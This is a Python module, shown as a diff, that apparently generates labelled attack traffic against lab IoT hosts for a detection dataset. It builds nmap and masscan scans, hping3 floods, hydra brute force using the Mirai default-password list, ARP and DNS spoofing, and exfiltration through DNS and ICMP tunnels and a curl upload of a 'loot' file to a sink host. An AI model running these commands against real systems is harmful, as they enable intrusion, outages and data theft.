@@ -1,0 +1,215 @@
+"""Attack plans of ``iotwatch lab record``: which real tool runs, against which lab host, as which class.
+
+:func:`plan` turns a family (recon, dos, bruteforce, spoofing, exfiltration) into :class:`Step` s.
+Each step is one or more commands run together in the attacker namespace, every one wrapped in
+``timeout`` by the recorder and bounded in count as well (port lists, ``hping3 -c``, password
+lists, query files). Targets are always lab hosts (:class:`LabContext`); nothing here names any
+other address. :data:`TOOLS` maps every binary to the Debian package that provides it, so a
+missing tool is reported with the package to install.
+"""
+from __future__ import annotations
+
+import base64
+import random
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+
+FAMILIES = ("recon", "dos", "bruteforce", "spoofing", "exfiltration")
+
+#: binary -> Debian package
+TOOLS = {
+    "ip": "iproute2", "ping": "iputils-ping", "sysctl": "procps", "timeout": "coreutils",
+    "dumpcap": "tshark", "tshark": "tshark",
+    "mosquitto": "mosquitto", "mosquitto_pub": "mosquitto-clients", "mosquitto_sub": "mosquitto-clients",
+    "mosquitto_passwd": "mosquitto", "dnsmasq": "dnsmasq-base", "dropbear": "dropbear-bin",
+    "dropbearkey": "dropbear-bin", "dig": "bind9-dnsutils", "curl": "curl",
+    "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "hydra": "hydra",
+    "arpspoof": "dsniff", "dnsspoof": "dsniff",
+}
+
+#: tools each family needs (the lab itself always needs the first group)
+BASE_TOOLS = ("ip", "ping", "sysctl", "timeout", "dumpcap", "tshark", "mosquitto", "mosquitto_pub",
+              "mosquitto_sub", "mosquitto_passwd", "dnsmasq", "dropbear", "dropbearkey", "dig", "curl")
+FAMILY_TOOLS = {
+    "recon": ("nmap", "masscan"),
+    "dos": ("hping3",),
+    "bruteforce": ("hydra", "mosquitto_pub"),
+    "spoofing": ("arpspoof", "dnsspoof"),
+    "exfiltration": ("dig", "curl", "hping3"),
+}
+
+#: default credentials of the Mirai family, the classic IoT guess list
+MIRAI_PASSWORDS = ("admin", "root", "12345", "123456", "xc3511", "vizxv", "888888", "xmhdipc", "default",
+                   "juantech", "54321", "support", "password", "1234", "12345678", "user", "guest", "pass",
+                   "admin1234", "1111", "smcadmin", "666666", "klv123", "Zte521", "hi3518", "jvbzd",
+                   "anko", "zlxx.", "7ujMko0vizxv", "7ujMko0admin", "system", "ikwb", "dreambox", "realtek",
+                   "00000000", "1111111", "meinsm", "tech", "ubnt", "fucker", "changeme", "service")
+USERS = ("admin", "root", "support", "user", "guest")
+
+
+@dataclass
+class Step:
+    """One attack window: commands run concurrently in the attacker namespace."""
+
+    name: str
+    label: str
+    commands: list[list[str]]
+    weight: float = 1.0          # share of the family's time budget
+    min_seconds: float = 4.0
+    victim_ip: str = ""          # spoofed-source flood: see lab_labels
+    dns_suffix: str = ""         # DNS tunnel through the resolver: see lab_labels
+
+
+@dataclass
+class LabContext:
+    """What the plans may target: lab hosts (role -> ip / mac) and files in the lab workdir."""
+
+    ips: dict[str, str]
+    macs: dict[str, str]
+    workdir: Path
+    tunnel_zone: str = "t.lab"
+    creds: dict[str, str] = field(default_factory=dict)
+
+    def ip(self, role: str) -> str:
+        return self.ips[role]
+
+
+def password_list(rng: random.Random, n: int) -> list[str]:
+    words = list(MIRAI_PASSWORDS)
+    rng.shuffle(words)
+    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
+    while len(words) < n:
+        words.append("".join(rng.choice(alphabet) for _ in range(rng.randint(5, 10))))
+    return words[:n]
+
+
+def _write(path: Path, lines: list[str]) -> str:
+    path.write_text("\n".join(lines) + "\n")
+    return str(path)
+
+
+def _py(*args: str) -> list[str]:
+    """A lab helper from lab_services, run with this interpreter."""
+    return [sys.executable, "-m", "iotwatch.captures.lab_services", *args]
+
+
+def plan(family: str, ctx: LabContext, rng: random.Random) -> list[Step]:
+    """The steps of one family, with victims and sizes drawn from ``rng``."""
+    return {"recon": _recon, "dos": _dos, "bruteforce": _bruteforce,
+            "spoofing": _spoofing, "exfiltration": _exfiltration}[family](ctx, rng)
+
+
+def _recon(ctx: LabContext, rng: random.Random) -> list[Step]:
+    devices = ["hub", "cam", "sensor", "nas", "gw"]
+    v1, v2, v3 = rng.sample(devices, 3)
+    subnet = ctx.ips["gw"].rsplit(".", 1)[0] + ".0/24"
+    steps = [
+        Step("nmap -sn (ARP host discovery)", "recon",
+             [["nmap", "-n", "-sn", "-T4", "--max-retries", "1", subnet]], weight=1.0),
+        Step("nmap -sS", "recon",
+             [["nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "--top-ports", str(rng.choice([300, 500, 1000])),
+               ctx.ip(v1)]], weight=1.5),
+        Step("nmap -sU", "recon",
+             [["nmap", "-n", "-Pn", "-sU", "-T4", "--max-retries", "1", "--top-ports", str(rng.choice([20, 30, 50])),
+               ctx.ip(v2)]], weight=2.0),
+        Step("nmap -sV", "recon",
+             [["nmap", "-n", "-Pn", "-sV", "--version-light", "-T4", "-p", "21,22,23,53,80,1883,5683,8080",
+               ctx.ip(v3)]], weight=2.5, min_seconds=15.0),
+        Step("masscan", "recon",
+             [["masscan", ctx.ip(v2), "-p", f"1-{rng.choice([2000, 3000, 5000])}", "--rate", str(rng.choice([300, 500])),
+               "-e", "eth0", "--adapter-ip", ctx.ip("attacker"), "--router-mac", ctx.macs[v2], "--wait", "1"]],
+             weight=1.5),
+    ]
+    rng.shuffle(steps)
+    return steps
+
+
+def _hping(ctx: LabContext, *args: str) -> list[str]:
+    return ["hping3", "-I", "eth0", "-q", *args]
+
+
+def _dos(ctx: LabContext, rng: random.Random) -> list[Step]:
+    v = {k: ctx.ip(k) for k in ("hub", "cam", "sensor", "gw")}
+    n = rng.choice([1500, 2000, 2500])
+    gap = f"u{rng.choice([300, 400, 500])}"
+    steps = [
+        Step("hping3 SYN flood", "dos", [_hping(ctx, "-S", "-p", "80", "-c", str(n), "-i", gap, v["cam"])]),
+        Step("hping3 SYN flood --rand-source", "dos",
+             [_hping(ctx, "-S", "-p", "1883", "--rand-source", "-c", str(n), "-i", gap, v["hub"])],
+             victim_ip=v["hub"]),
+        Step("hping3 UDP flood", "dos",
+             [_hping(ctx, "-2", "-p", "5683", "-d", str(rng.choice([32, 64, 128])), "-c", str(n), "-i", gap, v["sensor"])]),
+        Step("hping3 ICMP flood", "dos",
+             [_hping(ctx, "-1", "-d", str(rng.choice([56, 120, 512])), "-c", str(n), "-i", gap, v["gw"])]),
+    ]
+    rng.shuffle(steps)
+    return steps
+
+
+def _bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
+    wd = ctx.workdir
+    pw = _write(wd / "passwords.txt", password_list(rng, 60))
+    users = _write(wd / "users.txt", list(USERS[:3]))
+    hydra = ["hydra", "-I", "-q", "-t", str(rng.choice([2, 4])), "-w", "5"]
+    steps = [
+        Step("hydra telnet", "bruteforce", [hydra + ["-l", rng.choice(USERS), "-P", pw, f"telnet://{ctx.ip('cam')}"]],
+             weight=1.5),
+        Step("hydra ssh", "bruteforce", [hydra + ["-l", rng.choice(USERS), "-P", pw, f"ssh://{ctx.ip('nas')}"]],
+             weight=1.5),
+        Step("hydra ftp", "bruteforce", [hydra + ["-L", users, "-P", pw, f"ftp://{ctx.ip('nas')}"]]),
+        Step("hydra http-get basic auth", "bruteforce",
+             [hydra + ["-l", "admin", "-P", pw, f"http-get://{ctx.ip('gw')}/admin"]]),
+        Step("mosquitto_pub login guessing", "bruteforce",
+             [_py("guess-mqtt", "--host", ctx.ip("hub"), "--user", rng.choice(USERS), "--passwords", pw,
+                  "--max", "60")]),
+    ]
+    rng.shuffle(steps)
+    return steps
+
+
+def _spoofing(ctx: LabContext, rng: random.Random) -> list[Step]:
+    victim = rng.choice(["sensor", "cam", "user"])
+    hosts = _write(ctx.workdir / "spoof.hosts", [f"{ctx.ip('attacker')} *.lab", f"{ctx.ip('attacker')} broker.lab"])
+    return [
+        Step("arpspoof (device <-> gateway)", "spoofing",
+             [["arpspoof", "-i", "eth0", "-t", ctx.ip(victim), "-r", ctx.ip("gw")]], weight=2.0, min_seconds=8.0),
+        Step("arpspoof + dnsspoof", "spoofing",
+             [["arpspoof", "-i", "eth0", "-t", ctx.ip("user"), ctx.ip("gw")],
+              ["dnsspoof", "-i", "eth0", "-f", hosts, "udp", "dst", "port", "53"]], weight=2.0, min_seconds=8.0),
+    ]
+
+
+def tunnel_queries(ctx: LabContext, rng: random.Random, n: int, qtype: str) -> list[str]:
+    """dig batch lines: data chunks base32-encoded into long labels under the tunnel zone."""
+    lines = []
+    for seq in range(n):
+        chunk = base64.b32encode(rng.randbytes(rng.choice([30, 35, 38]))).decode().rstrip("=").lower()
+        name = f"{chunk[:60]}.{chunk[60:] or 'a'}{seq:04x}.{ctx.tunnel_zone}"
+        lines.append(f"@{ctx.ip('gw')} {name} {qtype} +tries=1 +time=1")
+    return lines
+
+
+def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
+    wd = ctx.workdir
+    loot = wd / "loot.bin"
+    loot.write_bytes(rng.randbytes(rng.choice([4, 6, 8]) * 1024 * 1024))
+    small = wd / "loot-small.bin"
+    small.write_bytes(rng.randbytes(200_000))
+    txt = _write(wd / "tunnel-txt.dig", tunnel_queries(ctx, rng, rng.choice([250, 350]), "TXT"))
+    a = _write(wd / "tunnel-a.dig", tunnel_queries(ctx, rng, rng.choice([150, 200]), "A"))
+    sink = ctx.ip("sink")
+    steps = [
+        Step("DNS tunnel (dig TXT, base32 labels via the lab resolver)", "exfiltration", [["dig", "-f", txt]],
+             dns_suffix=ctx.tunnel_zone),
+        Step("DNS tunnel (dig A, base32 labels via the lab resolver)", "exfiltration", [["dig", "-f", a]],
+             dns_suffix=ctx.tunnel_zone),
+        Step("bulk HTTP upload to an unseen host", "exfiltration",
+             [["curl", "-s", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2])}M", "-m", "30",
+               "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{loot}",
+               f"http://{sink}:8080/upload"]], weight=1.5),
+        Step("ICMP tunnel (hping3 -E payload)", "exfiltration",
+             [_hping(ctx, "-1", "-E", str(small), "-d", "1000", "-c", "200", "-i", "u20000", sink)]),
+    ]
+    rng.shuffle(steps)
+    return steps
